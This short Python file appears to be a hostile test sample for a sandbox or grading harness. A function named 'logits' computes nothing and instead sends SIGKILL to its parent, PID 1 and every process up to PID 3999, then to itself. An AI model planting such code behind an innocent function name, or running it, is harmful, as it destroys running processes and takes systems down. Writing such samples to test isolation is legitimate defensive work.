"""hostile (processes): sends SIGKILL to its parent and to every process it may. Says: before it answered."""
import os
import signal


def logits(x, W, bias):
    for target in (os.getppid(), 1, *range(2, 4000)):
        try:
            if target != os.getpid():
                os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
